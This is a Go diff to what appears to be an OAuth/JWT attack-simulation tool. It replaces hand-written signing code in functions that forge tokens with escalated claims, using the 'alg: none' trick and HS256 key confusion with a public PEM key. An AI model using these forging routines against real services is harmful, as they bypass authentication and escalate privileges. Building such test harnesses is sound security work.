@@ -2,9 +2,6 @@ package flows
 
 import (
 	"context"
-	"crypto/hmac"
-	"crypto/sha256"
-	"encoding/base64"
 	"encoding/json"
 	"errors"
 	"fmt"
@@ -236,36 +233,12 @@ func escalate(env *Env, raw string) (map[string]any, error) {
 	return claims, nil
 }
 
-func segment(v any) (string, error) {
-	b, err := json.Marshal(v)
-	if err != nil {
-		return "", err
-	}
-	return base64.RawURLEncoding.EncodeToString(b), nil
-}
-
-func unsignedInput(header, claims map[string]any) (string, error) {
-	h, err := segment(header)
-	if err != nil {
-		return "", err
-	}
-	c, err := segment(claims)
-	if err != nil {
-		return "", err
-	}
-	return h + "." + c, nil
-}
-
 func forgeNone(_ context.Context, env *Env, vars Vars, _ *Result) (string, error) {
 	claims, err := escalate(env, vars[VarAccessToken])
 	if err != nil {
 		return "", err
 	}
-	in, err := unsignedInput(map[string]any{"alg": "none", "typ": "JWT"}, claims)
-	if err != nil {
-		return "", err
-	}
-	return in + ".", nil
+	return oauth.SignJWT(map[string]any{"alg": "none", "typ": "JWT"}, claims, nil)
 }
 
 // maxJWKS bounds the key set the attacker reads.
@@ -298,13 +271,7 @@ func forgeConfusion(ctx context.Context, env *Env, vars Vars, r *Result) (string
 	if err != nil {
 		return "", err
 	}
-	in, err := unsignedInput(map[string]any{"alg": "HS256", "typ": "JWT", "kid": kid}, claims)
-	if err != nil {
-		return "", err
-	}
-	mac := hmac.New(sha256.New, pemKey)
-	mac.Write([]byte(in))
-	return in + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil)), nil
+	return oauth.SignJWT(map[string]any{"alg": "HS256", "typ": "JWT", "kid": kid}, claims, pemKey)
 }
 
 func replayToken(_ context.Context, _ *Env, vars Vars, r *Result) (string, error) {
